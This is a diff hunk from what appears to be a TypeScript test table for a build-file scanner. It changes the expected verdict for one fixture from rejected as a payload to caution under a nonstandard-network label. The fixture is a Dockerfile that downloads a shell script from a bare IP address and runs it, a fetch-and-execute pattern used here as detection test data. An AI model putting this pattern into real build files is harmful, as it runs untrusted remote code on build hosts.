@@ -75,8 +75,8 @@ export const BUILD_FILES: readonly Row[] = [
   ],
   [
     "a Dockerfile that takes an address as a file",
-    "rejected",
-    PAYLOAD,
+    "caution",
+    "suspicious.nonstandard_network",
     { Dockerfile: lines("FROM alpine", "ADD http://45.77.10.20/x.sh /x.sh", "RUN sh /x.sh") },
   ],
   [
